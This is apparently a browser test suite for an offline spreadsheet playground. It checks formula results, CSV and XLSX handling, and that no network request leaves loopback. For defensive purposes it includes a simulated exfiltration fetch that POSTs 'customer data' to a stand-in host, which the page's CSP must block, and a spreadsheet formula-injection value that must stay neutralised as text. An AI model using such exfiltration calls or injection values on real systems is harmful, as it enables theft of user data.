// The offline playground in a real browser (Chromium): it opens on the sample workbook, every
// RAPPORT formula there equals the engine called directly, typed formulas spill, and — the
// privacy proof — nothing but loopback is ever requested, nothing at all after load, and the
// page's Content-Security-Policy stops a deliberate request to another origin.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ROOT, serveStatic, assertSameResult } from './helpers.mjs';
import { launchChromium, isLoopback, CHROMIUM } from './playground-browser.mjs';
import ExcelJS from 'exceljs';
import * as glue from '../../build/pkg/rapport.js';
import { createEngine, CellError } from '../../js/core/engine.js';

const DIST = join(ROOT, 'dist');
const skip = !existsSync(CHROMIUM) && 'Chromium is missing: run make setup-test';
let server, browser, page, engine;
const browserRequests = [];
const outsideAttempts = [];

before(async () => {
  if (skip) return;
  glue.initSync({ module: readFileSync(join(ROOT, 'build/pkg/rapport_bg.wasm')) });
  engine = createEngine(glue);
  server = await serveStatic(DIST);
  browser = await launchChromium();
  // A safety net: anything not on loopback is recorded and never leaves the machine.
  await browser.context.route('**/*', (route) => {
    const url = route.request().url();
    if (isLoopback(url)) return route.continue();
    outsideAttempts.push(url);
    return route.abort();
  });
  browser.context.on('request', (r) => browserRequests.push(r.url()));
  page = await browser.context.newPage();
  // Every CSP violation from the first script on, to tell the deliberate one from any other.
  await page.addInitScript(() => {
    globalThis.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => globalThis.__violations.push({ blocked: e.blockedURI, directive: e.violatedDirective }));
  });
  await page.goto(`${server.url}/playground/`);
  await page.waitForSelector('body[data-loaded="true"]', { timeout: 60_000 });
  await page.evaluate(() => globalThis.RapportPlayground.settled());
});

after(async () => {
  if (browser) await browser.close();
  if (server) await server.close();
});

/** The page's state: raw sheets, values and every Rapport result. */
function pageState() {
  return page.evaluate(() => {
    const s = globalThis.RapportPlayground.state;
    return { sheets: s.sheets, values: Object.fromEntries(s.values), rapport: s.rapport };
  });
}

// ---- calling the engine directly on the arguments a formula names --------------------------
const colIndex = (letters) => [...letters.toUpperCase()].reduce((n, ch) => n * 26 + ch.charCodeAt(0) - 64, 0) - 1;

/** Splits "f(a, b, {1, 2})" into its argument texts (the sample's formulas only). */
function argumentTexts(formula) {
  const inner = formula.slice(formula.indexOf('(') + 1, formula.lastIndexOf(')'));
  const out = [];
  let depth = 0, quote = false, cur = '';
  for (const ch of inner) {
    if (ch === "'") quote = !quote;
    if (!quote && ch === '{') depth++;
    if (!quote && ch === '}') depth--;
    if (!quote && depth === 0 && ch === ',') {
      out.push(cur.trim());
      cur = '';
    } else cur += ch;
  }
  if (cur.trim()) out.push(cur.trim());
  return out;
}

/** A cell of the page's values as the engine's input. */
const asCell = (v) => (v && typeof v === 'object' ? new CellError(v.error, v.message) : v ?? null);

function argumentValue(text, sheetName, values) {
  if (/^-?\d+(\.\d+)?$/.test(text)) return Number(text);
  if (text.startsWith('{')) return [text.slice(1, -1).split(',').map((x) => Number(x.trim()))];
  const m = /^(?:'?([^'!]+)'?!)?\$?([A-Z]+)\$?(\d+)(?::\$?([A-Z]+)\$?(\d+))?$/.exec(text);
  assert.ok(m, `unexpected argument ${text}`);
  const grid = values[m[1] ?? sheetName] ?? [];
  const [c1, r1] = [colIndex(m[2]), Number(m[3]) - 1];
  const [c2, r2] = m[4] ? [colIndex(m[4]), Number(m[5]) - 1] : [c1, r1];
  const out = [];
  for (let r = r1; r <= r2; r++) {
    const row = [];
    for (let c = c1; c <= c2; c++) row.push(asCell(grid[r] ? grid[r][c] : null));
    out.push(row);
  }
  return out;
}

/** An engine result in the page's plain form ({error, message} for errors). */
const plainResult = (v) => (v instanceof CellError ? { error: v.code, message: v.message } : Array.isArray(v) ? v.map((row) => row.map(plainResult)) : v);

test('the playground opens on the sample workbook, using all 22 functions', { skip }, async () => {
  const { sheets, rapport } = await pageState();
  assert.deepEqual(sheets.map((s) => s.name), ['Summary', 'Survey', 'Seller', 'Accounts', 'Interactions', 'Value map', 'Generated']);
  const used = new Set(rapport.map((r) => r.fn));
  assert.deepEqual([...used].sort(), engine.catalogue.map((f) => f.name).sort());
  for (const r of rapport) {
    const bad = JSON.stringify(r.result).match(/"error":"[^"]+","message":"[^"]*"/);
    assert.equal(bad, null, `${r.sheet} ${r.fn}: a sample formula gives an error: ${bad}`);
  }
});

test("the sample workbook's formula results equal the engine's own results, exactly", { skip }, async () => {
  const { sheets, values, rapport } = await pageState();
  let n = 0;
  for (const r of rapport) {
    const formula = sheets.find((s) => s.name === r.sheet).cells[r.row][r.col];
    const args = argumentTexts(formula).map((t) => argumentValue(t, r.sheet, values));
    const direct = plainResult(engine.call(r.fn, args));
    assertSameResult(r.result, direct, `${r.sheet}!${formula}`);
    // And the grid shows those values where the formula spills.
    const grid = values[r.sheet];
    const rows = Array.isArray(direct) ? direct : [[direct]];
    rows.forEach((row, i) => row.forEach((v, j) => {
      const shown = grid[r.row + i][r.col + j];
      if (v && typeof v === 'object') assert.equal(shown.error, v.error);
      else assert.ok(Object.is(shown, v), `${r.sheet} ${formula}: cell ${i},${j} shows ${JSON.stringify(shown)}, engine ${JSON.stringify(v)}`);
    }));
    n++;
  }
  assert.ok(n >= 24, `only ${n} formulas checked`);
});

test('a Rapport formula typed into a cell spills its values', { skip }, async () => {
  await page.getByRole('button', { name: 'Survey', exact: true }).click();
  await page.locator('td[data-r="1"][data-c="12"]').click(); // M2
  await page.keyboard.type('=RAPPORT.SEQ_LEVEL(I2:I6, {60, 75, 90})');
  await page.keyboard.press('Enter');
  await page.evaluate(() => globalThis.RapportPlayground.settled());
  const shown = await page.$$eval('td[data-c="12"]', (tds) => tds.slice(1, 7).map((td) => td.textContent));
  const { values } = await pageState();
  const scores = values.Survey.slice(1, 6).map((row) => [row[8]]);
  const direct = engine.call('SEQ_LEVEL', [scores, [[60, 75, 90]]]).map((row) => row[0]);
  assert.equal(direct.length, 5);
  assert.deepEqual(shown, [...direct, '']);
  assert.ok(direct.every((v) => ['Antagonistic', 'Transactional', 'Predisposed', 'Trusted Advisor'].includes(v)));
  // A table function spills a header row and its rows, two-dimensionally.
  await page.locator('td[data-r="1"][data-c="14"]').click(); // O2
  await page.keyboard.type('=RAPPORT.LEVEL_MIX(J2:J41)');
  await page.keyboard.press('Enter');
  await page.evaluate(() => globalThis.RapportPlayground.settled());
  const table = await page.$$eval('tr', (trs) => trs.slice(2, 8).map((tr) => [...tr.querySelectorAll('td')].slice(14, 17).map((td) => td.textContent)));
  assert.deepEqual(table[0], ['Level', 'Accounts', 'Share']);
  assert.deepEqual(table.map((r) => r[0]), ['Level', 'Antagonistic', 'Transactional', 'Predisposed', 'Trusted Advisor', 'At risk']);
});

test('privacy: only loopback requests during load and a full recalculation, none after load', { skip }, async () => {
  const atLoad = browserRequests.length;
  const serverAtLoad = server.requests.length;
  // Loading asks for exactly the page's own files, once each.
  const paths = browserRequests.map((u) => new URL(u).pathname);
  assert.deepEqual(paths.sort(), ['/playground/', '/playground/playground.css', '/playground/playground.js', '/playground/rapport_bg.wasm', '/playground/worker.js']);
  // A full recalculation of the sample workbook, then an edit.
  await page.getByRole('button', { name: 'Sample workbook' }).click();
  await page.evaluate(() => globalThis.RapportPlayground.settled());
  const status = await page.textContent('#status');
  assert.match(status, /2\d Rapport formulas/);
  await page.getByRole('button', { name: 'Summary', exact: true }).click();
  await page.locator('td[data-r="30"][data-c="0"]').click();
  await page.keyboard.type('=RAPPORT.AT_RISK(A4:A11, E4:E11)');
  await page.keyboard.press('Enter');
  await page.evaluate(() => globalThis.RapportPlayground.settled());
  assert.deepEqual(browserRequests.slice(atLoad), [], 'no request after load');
  assert.equal(server.requests.length, serverAtLoad, 'the server saw no request after load');
  assert.deepEqual(outsideAttempts, [], 'nothing tried to leave loopback');
  for (const url of browserRequests) assert.ok(isLoopback(url), `${url} is not on loopback`);
  const violations = await page.evaluate(() => globalThis.__violations);
  assert.deepEqual(violations, [], 'the page itself never trips its own policy');
});

test("privacy: the page's CSP blocks a fetch to another origin before any request", { skip }, async () => {
  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /connect-src 'self'/);
  const before = browserRequests.length;
  const outcome = await page.evaluate(async () => {
    // The violation event, or null if none comes (bounded, so a loosened policy fails, not hangs).
    const seen = new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', (e) => resolve({ blocked: e.blockedURI, directive: e.violatedDirective }), { once: true });
      setTimeout(() => resolve(null), 5000);
    });
    let fetched;
    try {
      await fetch('http://example.invalid/collect', { method: 'POST', body: 'customer data' });
      fetched = 'sent';
    } catch (err) {
      fetched = `rejected: ${err.name}`;
    }
    return { fetched, violation: await seen };
  });
  assert.equal(outcome.fetched, 'rejected: TypeError');
  assert.ok(outcome.violation, 'the policy reported no violation');
  assert.match(outcome.violation.blocked, /^http:\/\/example\.invalid/);
  assert.equal(outcome.violation.directive, 'connect-src');
  assert.deepEqual(browserRequests.slice(before), [], 'no request was issued');
  assert.deepEqual(outsideAttempts, []);
});

test('the workbook exports as XLSX from the page, with its formulas and neutralised text', { skip }, async () => {
  const before = browserRequests.length;
  await page.getByRole('button', { name: 'Sample workbook' }).click();
  await page.evaluate(async () => {
    const p = globalThis.RapportPlayground;
    await p.settled();
    p.select(0, 3); // Summary!D1: text a spreadsheet would run as a formula
    await p.commit("'=HYPERLINK(\"http://example.invalid\")");
  });
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export XLSX' }).click()]);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(readFileSync(await download.path()));
  assert.deepEqual(wb.worksheets.map((ws) => ws.name), ['Summary', 'Survey', 'Seller', 'Accounts', 'Interactions', 'Value map', 'Generated']);
  const summary = wb.getWorksheet('Summary');
  assert.match(summary.getCell('A3').value.formula, /^RAPPORT\.ACCOUNT_SEQ\(/);
  assert.equal(summary.getCell('D1').value, `'=HYPERLINK("http://example.invalid")`);
  assert.deepEqual(browserRequests.slice(before).filter((u) => !u.startsWith('blob:')), [], 'exporting requests nothing');
});

test('a CSV from disk opens in the page, its text stays text, and Rapport formulas work on it', { skip }, async () => {
  const before = browserRequests.length;
  const csv = 'Account,Score\nAcme,91\nBeta,42\n"=HYPERLINK(""http://example.invalid"")",n/a\n';
  await page.setInputFiles('#open-file', { name: 'scores.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
  await page.waitForFunction(() => /opened scores\.csv/.test(document.getElementById('status').textContent));
  await page.evaluate(async () => {
    const p = globalThis.RapportPlayground;
    p.select(1, 2);
    await p.commit('=RAPPORT.SEQ_LEVEL(B2:B4)');
  });
  const { sheets, values } = await pageState();
  assert.deepEqual(sheets.map((s) => s.name), ['scores']);
  assert.equal(values.scores[3][0], '=HYPERLINK("http://example.invalid")');
  assert.deepEqual(values.scores.slice(1, 4).map((r) => r[2] ?? null), ['Trusted Advisor', 'Antagonistic', null]);
  assert.deepEqual(browserRequests.slice(before), [], 'opening a file requests nothing');
});

test('a long recalculation shows progress while the page keeps handling events', { skip }, async () => {
  const seen = await page.evaluate(async () => {
    const rows = Array.from({ length: 3000 }, (_, i) => [(i * 37) % 101, `=RAPPORT.SEQ_LEVEL(A${i + 1})`, `=RAPPORT.SEQ_PERCENTILE(A${i + 1}, {62, 14})`]);
    const bar = document.getElementById('progress');
    const values = [];
    const observer = new MutationObserver(() => values.push({ value: bar.value, max: bar.max, status: document.getElementById('status').textContent }));
    observer.observe(bar, { attributes: true });
    await globalThis.RapportPlayground.loadWorkbook([{ name: 'Big', cells: rows }]);
    observer.disconnect();
    const calculated = globalThis.RapportPlayground.state.values.get('Big');
    return { values, last: calculated[2999] };
  });
  const partial = seen.values.filter((v) => v.max === 6000 && v.value > 0 && v.value < 6000);
  // Each update arrived as its own event while the worker was still calculating.
  assert.ok(partial.length >= 10, `only ${partial.length} progress updates`);
  assert.ok(partial.some((v) => /^Recalculating… \d+ of 6000 Rapport formulas$/.test(v.status)));
  assert.equal(seen.last[1], engine.call('SEQ_LEVEL', [[[(2999 * 37) % 101]]])[0][0]);
});

test('a screenshot of the playground with its dashboard is saved to test-artifacts/', { skip }, async () => {
  await page.getByRole('button', { name: 'Sample workbook' }).click();
  await page.evaluate(() => globalThis.RapportPlayground.settled());
  const charts = await page.$$eval('.dashboard canvas', (cs) => cs.map((c) => c.width > 0 && c.height > 0));
  assert.deepEqual(charts, [true, true, true, true, true]);
  const dir = join(ROOT, 'test-artifacts');
  mkdirSync(dir, { recursive: true });
  await page.screenshot({ path: join(dir, 'playground.png') });
  assert.ok(existsSync(join(dir, 'playground.png')));
});

test('privacy, last: after every interaction above, still no request beyond the files loaded first', { skip }, () => {
  const later = browserRequests.slice(5).filter((u) => !u.startsWith('blob:')); // export downloads are blob: URLs
  assert.deepEqual(later, []);
  assert.equal(server.requests.length, 5);
  assert.deepEqual(outsideAttempts, []);
});
